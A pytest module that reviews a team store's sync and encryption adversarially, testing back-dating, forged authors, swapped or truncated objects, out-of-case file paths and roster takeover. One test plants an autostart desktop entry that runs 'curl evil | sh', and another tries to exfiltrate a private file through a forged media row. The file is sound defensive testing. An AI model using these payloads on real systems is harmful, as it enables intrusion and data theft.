"""Adversarial review of the team store (issue 17): a store operator, a removed member, a
non-member of the team, a member with a lower role. Each test asserts the SAFE behaviour;
an attack that works is marked xfail(strict=True) with how it works. Real SeaweedFS, real
crypto (fixtures in tests/team/conftest.py).

Summary (review of 2026-12-01), the mechanisms behind the xfails:
- the merged trail orders entries of different devices by their author's own ``time``: a
  removed member back-dates entries before her removal (member.add of a non-member, who then
  gets the case key; consent.withdraw), and a future-dated consent.give outlives later
  withdrawals;
- change batches are merged without role, ownership or author checks, and membership is
  judged by the pulling laptop's view at the start of the sync;
- synced rows are trusted for decisions: ``media.file`` (a path: other laptops upload or
  write files outside the case), ``media.info.redacted_for`` (an own-review reel exported as
  a family copy), ``comments.author``;
- a pulled media object is bound to nothing (swap, truncation);
- ``team join`` without --admin-key trusts whoever signed the roster (documented TOFU)."""

from __future__ import annotations

import io
import json
from datetime import date

import pytest

from encryption import EncryptionError, iter_decrypt, read_encrypted, write_encrypted
from tests.team import test_join
from tests.team.laptops import CANARY_NAME, PASSPHRASES, first_laptop, two_laptops_with_a_goal
from tests.team.laptops import store_objects as _objects
from tests.team.laptops import sync as _sync
from tests.team.laptops import sync_ok as _ok
from tests.team.test_join import _forge, _join, _join_env
from videofeedback.library import audit as audit_module
from videofeedback.library.case_db import get_meta, set_meta
from videofeedback.library.cases import Purpose, SessionKind
from videofeedback.library.roles import Role
from videofeedback.team import case_doc
from videofeedback.team.case_sync import CaseSync
from videofeedback.team.heads import PACK_MAGIC, CaseNames, encrypt, unpack
from videofeedback.team.joining import PACKAGE
from videofeedback.team.merge import diff, merge
from videofeedback.team.quiet import fetch_raw_heads
from videofeedback.team.sync import open_for_sync

team = test_join.team  # the fixture: alice's library with bob, `team init` run
EVE = "eve-quiet-harbour-lantern"
EARLY = "2026-01-01T00:00:00.000000Z"  # before anything the tests write
FUTURE = "2099-01-01T00:00:00.000000Z"


def _raw_put(store, name, data):
    """The operator writes the bucket directly: no condition, no client of ours."""
    store.s3.put_object(Bucket=store.location.bucket, Key=store.location.key(name), Body=data)


def _goals(laptop, case_id, user=None):
    with laptop.session(user) as (_, session):
        return sorted(g.text for g in open_for_sync(session, case_id).goals.all())


def _participant(laptop, case_id):
    with laptop.session() as (_, session):
        return open_for_sync(session, case_id).participants.all()[0].id


def _shared_review(laptop, case_id, pid, user=None):
    with laptop.session(user) as (_, session):
        found = open_for_sync(session, case_id).consent.status(pid, Purpose.SHARED_REVIEW)
        return found.status if found else None


def _patched_push(laptop, case_id, store, act, batch=False):
    """A member's (or ex-member's) patched program: act on the own copy of the case, then
    push the own chain (and, with ``batch``, a change batch) without pulling first — the
    heads written to a newer key epoch do not open here, so the normal sync stops."""
    with laptop.session() as (_, session):
        case = open_for_sync(session, case_id)
        act(case)
        case.save()
        engine = CaseSync(case, store)
        own = engine.names.head(engine.device)
        raws = fetch_raw_heads(store, engine.names)
        engine._own_etag = next((etag for name, _, etag in raws if name == own), None)
        if batch:
            engine._merge()
        engine._push()


# --- 2. a removed member -------------------------------------------------------------------


@pytest.fixture
def removed(tmp_path, store):
    """pat (a) removed cat; cat's laptop (c) still has her library, epoch 1 and the store's
    keys. eve is a practitioner of the library who was never a member."""
    a, case_id = first_laptop(tmp_path, store, members=("pat", "sam", "cat"))
    PASSPHRASES.setdefault("eve", EVE)
    with a.session("alice") as (library, alice):
        library.add_user(alice, "eve", Role.PRACTITIONER, EVE)
    b = a.copy(tmp_path / "lib-b", tmp_path / "state-b", "sam")
    c = a.copy(tmp_path / "lib-c", tmp_path / "state-c", "cat")
    for laptop in (a, b, c, a, b):
        _ok(laptop)
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        case.members.remove("cat")
        case.save()
    _ok(a)
    return a, b, c, case_id


def test_a_removed_member_cannot_add_a_non_member_by_back_dating(removed, store, monkeypatch):
    a, _, c, case_id = removed
    monkeypatch.setattr(audit_module, "now_iso", lambda: EARLY)
    _patched_push(c, case_id, store, lambda case: case.members.add("eve"))
    monkeypatch.undo()
    report = _sync(a)
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        names = case.members.names()
        case.members.remove("sam")  # pat's next, ordinary change of members: a new key.age
    with a.session("eve") as (_, eve):
        opened = eve.try_case_identity(case_id)
    # safe: the sync refuses cat's new entries, or the signed members stay the same, and
    # eve (never a member) never gets the case key
    assert opened is None, names
    assert report.cases[0].error or "eve" not in names, names


def test_a_removed_member_cannot_withdraw_consent_by_back_dating(removed, store, monkeypatch):
    a, _, c, case_id = removed
    pid = _participant(a, case_id)
    monkeypatch.setattr(audit_module, "now_iso", lambda: EARLY)
    _patched_push(
        c, case_id, store, lambda case: case.consent.set(pid, Purpose.SHARED_REVIEW, False)
    )
    monkeypatch.undo()
    report = _sync(a)
    status = _shared_review(a, case_id, pid)
    with a.session() as (_, pat):
        problems = open_for_sync(pat, case_id).verify_audit().problems
    assert report.cases[0].error or status == "given" or problems, (status, problems)


def test_a_removed_members_later_change_is_merged_nowhere(removed, store):
    a, b, c, case_id = removed
    _patched_push(c, case_id, store, lambda case: case.goals.add("cat after removal"), True)
    _sync(b)
    _sync(a)
    _sync(b)
    assert "cat after removal" not in _goals(b, case_id)
    assert _goals(a, case_id) == _goals(b, case_id)


# --- 4. members within their role ---------------------------------------------------------


@pytest.fixture
def pair(tmp_path, store):
    return two_laptops_with_a_goal(tmp_path, store, "sam")


def test_a_supervisors_edits_outside_her_role_are_not_merged(pair):
    a, b, case_id = pair
    with b.session() as (_, sam):
        case = open_for_sync(sam, case_id)
        case.db.execute("UPDATE goals SET text = 'rewritten by the supervisor'")
        case.db.execute("UPDATE participants SET name = 'Somebody Else'")
        case.db.execute("INSERT OR REPLACE INTO meta VALUES ('closed_date', '2026-11-30')")
        case.save()
    _sync(b)
    _sync(a)
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        seen = (
            [g.text for g in case.goals.all()],
            [p.name for p in case.participants.all()],
            case.closed,
        )
    assert seen == (["pat's goal"], [CANARY_NAME], False), seen


def test_a_comment_in_the_supervisors_name_is_not_shown_as_hers(pair):
    a, b, case_id = pair
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        case.db.execute(
            "INSERT INTO comments VALUES ('k-forged', 'c', 'Approved, no concerns', 'sam', "
            "'2026-11-03T10:00:00.000000Z')"
        )
        case.save()
    _ok(a)
    _ok(b)
    with b.session() as (_, sam):
        comments = open_for_sync(sam, case_id).supervision.comments()
    assert not [c for c in comments if c.author == "sam" and "Approved" in c.text], comments


def test_a_future_dated_consent_does_not_outlive_a_later_withdrawal(tmp_path, store, monkeypatch):
    a, case_id = first_laptop(tmp_path, store, members=("pat", "cat"))
    b = a.copy(tmp_path / "lib-b", tmp_path / "state-b", "cat")
    for laptop in (a, b, a):
        _ok(laptop)
    pid = _participant(a, case_id)
    monkeypatch.setattr(audit_module, "now_iso", lambda: FUTURE)
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        case.consent.set(pid, Purpose.SHARED_REVIEW, True)  # pat's clock says 2099
        case.save()
    monkeypatch.undo()
    _ok(a)
    _ok(b)
    with b.session() as (_, cat):  # cat saw pat's consent; the mother withdraws afterwards
        case = open_for_sync(cat, case_id)
        case.consent.set(pid, Purpose.SHARED_REVIEW, False)
        case.save()
    _ok(b)
    _ok(a)
    assert _shared_review(b, case_id, pid) == "withdrawn"
    assert _shared_review(a, case_id, pid) == "withdrawn"


def test_a_change_batch_cannot_name_another_author(pair, tmp_path):
    """cat (a practitioner: the goal is hers to change, so her version is merged) writes a
    batch that says "pat"; the conflict lists her version as hers."""
    a, _, case_id = pair
    c = a.copy(tmp_path / "lib-c", tmp_path / "state-c", "cat")
    _ok(c)
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        case.db.execute("UPDATE goals SET text = 'pat, offline'")
        case.save()
    with c.session() as (_, cat):
        case = open_for_sync(cat, case_id)
        case.db.execute("UPDATE goals SET text = 'cat, in pat''s name'")
        _write_batch_as(case, "pat")  # the patched program: its batch says "pat"
    _sync(c)
    report = _sync(a)
    versions = [v for c in report.cases[0].conflicts for v in c["versions"]]
    forged = [v for v in versions if "in pat" in str(v["value"])]
    assert forged, report.to_json()
    assert all(v["author"] == "cat" for v in forged), forged


def _write_batch_as(case, author):
    """What CaseSync._merge writes, but with another ``author`` in the batch."""
    engine = CaseSync(case, None)
    base = merge(engine.ops(json.loads(get_meta(case.db, "sync_base", "{}"))))
    everything = engine.ops()
    lamport = max([base.lamport, *(o.lamport for o in everything)]) + 1
    new = diff(base, case_doc.extract(case.db), engine.device, author, lamport)
    assert new
    body = {
        "format": "videofeedback-changes",
        "version": 1,
        "device": engine.device,
        "author": author,
        "ops": [o.to_json() for o in new],
    }
    folder = engine._batches_dir(engine.device)
    folder.mkdir(parents=True, exist_ok=True, mode=0o700)
    number = len(list(folder.glob("*.age"))) + 1
    data = encrypt(json.dumps(body, sort_keys=True).encode(), case.recipients)
    (folder / f"{number:08d}.age").write_bytes(data)
    set_meta(case.db, "sync_base", json.dumps(engine.counts(), sort_keys=True))
    case.save()


# --- 3. a non-member of the team ----------------------------------------------------------


def test_a_non_member_user_reads_nothing_in_the_store(removed, store):
    """eve: a library user, the key store's KEKs, the store's keys — never a member."""
    a, _, _, case_id = removed
    with a.session("eve") as (_, eve):
        identities = list(eve.identities)
        assert eve.try_case_identity(case_id) is None
    for data in _objects(store).values():
        for item in unpack(data) if data.startswith(PACK_MAGIC) else [data]:
            with pytest.raises(EncryptionError):
                b"".join(iter_decrypt(io.BytesIO(item), identities))


# --- 1. the store operator ----------------------------------------------------------------


def _two_recordings(laptop, case_id):
    with laptop.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        session_id = case.sessions.new(SessionKind.RECORDING, date(2026, 11, 2))
        (case.folder / "media").mkdir(exist_ok=True, mode=0o700)
        ids = []
        for n, content in ((1, b"FIRST-FILM" * 3000), (2, b"OTHER-FILM" * 3000)):
            write_encrypted(case.folder / "media" / f"r{n}.age", content, case.recipients)
            ids.append(case.media.add(session_id, "recording", f"media/r{n}.age", {}))
        case.save()
        names = CaseNames.of(case.identity)
        return ids, [names.media(i) for i in ids]


@pytest.fixture
def media(pair, store):
    a, b, case_id = pair
    ids, names = _two_recordings(a, case_id)
    _ok(a)
    return a, b, case_id, names


def _read_r2(laptop, case_id, user=None):
    with laptop.session(user) as (_, session):
        case = open_for_sync(session, case_id)
        return read_encrypted(case.folder / "media" / "r2.age", [case.identity])


def test_the_store_cannot_swap_two_recordings_of_a_case(media, store):
    _, b, case_id, names = media
    _raw_put(store, names[1], store.get(names[0]))
    report = _sync(b)
    if report.cases[0].error:
        assert case_id in report.cases[0].error
        return
    assert _read_r2(b, case_id) == b"OTHER-FILM" * 3000


def test_a_truncated_media_object_is_refused_at_sync(media, store):
    _, b, case_id, names = media
    whole = store.get(names[1])
    _raw_put(store, names[1], whole[: len(whole) // 2])
    report = _sync(b)
    assert report.cases[0].error and case_id in report.cases[0].error
    assert not (b.folder / "cases" / case_id / "media" / "r2.age").exists()


def test_the_store_swapping_two_devices_heads_is_refused(pair, store):
    a, b, case_id = pair
    heads = {n: d for n, d in _objects(store).items() if n.startswith("h/")}
    assert len(heads) == 2
    (n1, d1), (n2, d2) = heads.items()
    _raw_put(store, n1, d2)
    _raw_put(store, n2, d1)
    before = _goals(a, case_id)
    report = _sync(a)
    assert report.cases[0].error and case_id in report.cases[0].error
    assert _goals(a, case_id) == before


def test_the_store_cannot_serve_another_cases_head_under_this_case(tmp_path, store):
    """Two cases of one team: case 2's head copied under case 1's tag is refused."""
    a, case_one = first_laptop(tmp_path, store)
    with a.session() as (_, pat):
        from videofeedback.library.cases import Programme, create_case

        case_two = create_case(pat, "Second", Programme.VIG, date(2026, 11, 1), ["sam"]).id
    _ok(a)
    b = a.copy(tmp_path / "lib-b", tmp_path / "state-b", "sam")
    _ok(b)
    with a.session() as (_, pat):
        one = CaseNames.of(open_for_sync(pat, case_one).identity)
        two = CaseNames.of(open_for_sync(pat, case_two).identity)
    ones = sorted(n for n in _objects(store) if n.startswith(one.heads))
    twos = sorted(n for n in _objects(store) if n.startswith(two.heads))
    assert len(ones) == len(twos) == 2
    for name, other in zip(ones, twos, strict=True):
        _raw_put(store, name, store.get(other))
    report = _sync(a)
    by_case = {c.case: c for c in report.cases}
    assert by_case[case_one].error and case_one in by_case[case_one].error
    assert not by_case[case_two].error


def test_a_truncated_pack_of_entries_is_refused(pair, store):
    a, b, case_id = pair
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        case.goals.add("one more")
        case.save()
    before = set(_objects(store))
    _ok(a)
    packs = [n for n, d in _objects(store).items() if n not in before and d.startswith(PACK_MAGIC)]
    assert packs
    data = store.get(packs[0])
    _raw_put(store, packs[0], data[: len(data) - 10])
    report = _sync(b)
    assert report.cases[0].error and case_id in report.cases[0].error
    assert "one more" not in _goals(b, case_id)


# --- redacted exports over the store (docs/FORMAT.md §11.1) ----------------------------------

ORIGINAL = b"UNREDACTED-ORIGINAL-FILM" * 2000
REDACTED = b"REDACTED-FOR-THE-FAMILY" * 2000


def _film_and_reel(laptop, case_id, redacted_for):
    """A recording, and a reel of it (its bytes stand for a render; ``info`` as the reel
    builder writes it: ``redacted_for`` only when rendered for a purpose)."""
    with laptop.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        session_id = case.sessions.new(SessionKind.RECORDING, date(2026, 11, 2))
        (case.folder / "media").mkdir(exist_ok=True, mode=0o700)
        write_encrypted(case.folder / "media" / "film.age", ORIGINAL, case.recipients)
        film = case.media.add(session_id, "recording", "media/film.age", {})
        write_encrypted(case.folder / "media" / "reel.age", REDACTED, case.recipients)
        info = {"redacted_for": redacted_for} if redacted_for else {}
        reel = case.media.add(session_id, "reel", "media/reel.age", info)
        case.save()
        names = CaseNames.of(case.identity)
        return film, reel, names.media(film), names.media(reel)


def _export(laptop, case_id, media_id, out, user=None):
    from videofeedback.redacted import export_copy

    with laptop.session(user) as (_, session):
        case = open_for_sync(session, case_id)
        export_copy(case, media_id, out, Purpose.FAMILY_COPY)
    return out.read_bytes()


def test_a_supervisor_cannot_make_an_own_review_reel_exportable_for_the_family(pair, tmp_path):
    from videofeedback.library.errors import LibraryError

    a, _, case_id = pair
    _, reel, _, _ = _film_and_reel(a, case_id, None)
    _ok(a)
    b = a.copy(tmp_path / "lib-c", tmp_path / "state-c", "cat")  # media rows: her role's
    _ok(b)
    with b.session() as (_, cat):
        case = open_for_sync(cat, case_id)
        case.db.execute(
            "UPDATE media SET info = json_set(info, '$.redacted_for', 'family-copy') WHERE id = ?",
            (reel,),
        )
        case.save()
    _ok(b)
    _ok(a)
    with pytest.raises(LibraryError):
        _export(a, case_id, reel, tmp_path / "family.mp4")


def test_the_store_cannot_turn_a_family_copy_into_the_original(tmp_path, store):
    a, case_id = first_laptop(tmp_path, store, members=("pat", "cat"))
    b = a.copy(tmp_path / "lib-b", tmp_path / "state-b", "cat")
    _ok(a)
    _ok(b)
    _, reel, film_name, reel_name = _film_and_reel(a, case_id, "family-copy")
    _ok(a)
    _raw_put(store, reel_name, store.get(film_name))
    report = _sync(b)
    if report.cases[0].error:
        assert case_id in report.cases[0].error
        return
    assert _export(b, case_id, reel, tmp_path / "family.mp4") != ORIGINAL


# --- a member's media record names a path outside the case ---------------------------------


@pytest.fixture
def with_session(pair, tmp_path):
    """pat's laptop, and cat's (a practitioner: media rows are within her role, so only the
    path checks can stop her)."""
    a, _, case_id = pair
    b = a.copy(tmp_path / "lib-c", tmp_path / "state-c", "cat")
    with a.session() as (_, pat):
        case = open_for_sync(pat, case_id)
        session_id = case.sessions.new(SessionKind.RECORDING, date(2026, 11, 2))
        case.save()
    _ok(a)
    _ok(b)
    return a, b, case_id, session_id


def _slip_media_row(laptop, case_id, session_id, media_id, file):
    """A member's patched program: a media row whose ``file`` is any path (synced)."""
    with laptop.session() as (_, cat):
        case = open_for_sync(cat, case_id)
        case.db.execute(
            "INSERT INTO media VALUES (?, ?, 'recording', ?, '{}', 'cat', '2026-11-02')",
            (media_id, session_id, file),
        )
        case.save()
        return CaseNames.of(case.identity).media(media_id)


def test_a_member_cannot_make_another_laptop_upload_a_file_outside_the_case(
    with_session, store, tmp_path
):
    a, b, case_id, session_id = with_session
    secret = tmp_path / "pat-home" / "private-notes.txt"  # any file pat's account can read
    secret.parent.mkdir()
    secret.write_bytes(b"PAT'S PRIVATE NOTES, NEVER SHARED")
    name = _slip_media_row(b, case_id, session_id, "m-exfil", str(secret))
    _sync(b)
    _sync(a)
    stolen = store.get(name) if store.head(name) else b""
    assert b"PRIVATE NOTES" not in stolen


def test_a_member_cannot_make_another_laptop_write_a_file_outside_the_case(
    with_session, store, tmp_path
):
    a, b, case_id, session_id = with_session
    target = tmp_path / "pat-home" / ".config" / "autostart" / "evil.desktop"
    name = _slip_media_row(b, case_id, session_id, "m-drop", str(target))
    store.put_new(name, b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    _sync(b)
    _sync(a)
    assert not target.exists()


# --- 5. team join --------------------------------------------------------------------------


def test_a_roster_re_signed_by_a_code_holder_is_refused_on_join(team, tmp_path):
    from encryption import UserKeys
    from videofeedback.library.roster import sign_roster

    mallory = UserKeys.generate()

    def take_over(manifest):
        manifest.users["alice"].verify_key = str(mallory.require_signing_key().verify_key)
        manifest.recovery_recipient = str(mallory.recipient)
        sign_roster(manifest, "alice", mallory.require_signing_key())

    _forge(team, tmp_path, take_over)
    joined, _ = _join(team, tmp_path)
    manifest = tmp_path / "laptop" / "manifest.json"
    trusted = json.loads(manifest.read_text())["recovery_recipient"] if manifest.exists() else ""
    assert trusted != str(mallory.recipient), joined.text


def test_an_older_team_package_put_back_by_the_store_is_refused_where_pinned(team, tmp_path):
    """The store keeps the first package and puts it back after alice published a newer
    roster (carol added): a laptop that joined from the newer one refuses the older."""
    from tests.cli.conftest import run_cli

    store = team["store"]
    old = store.get(PACKAGE)
    new = {**team["env"], "VIDEOFEEDBACK_NEW_PASSPHRASE": "carol-quiet-harbour-lantern"}
    added = run_cli("--user", "alice", "user", "add", "carol", "--role", "supervisor", env=new)
    assert added.code == 0, added.err
    again = run_cli("--user", "alice", "team", "init", "--json", env=team["env"])
    assert again.code == 0, again.err
    first, _ = _join(team, tmp_path, laptop="pinned")
    assert first.code == 0, first.err
    _raw_put(store, PACKAGE, old)
    state = tmp_path / "pinned-state"
    env = {**_join_env(team, tmp_path / "second"), "VIDEOFEEDBACK_STATE_DIR": str(state)}
    refused = run_cli(
        "--user", "bob", "team", "join", "--remote", "office", *team["where"], env=env
    )
    assert refused.code != 0
    assert not (tmp_path / "second" / "manifest.json").exists()
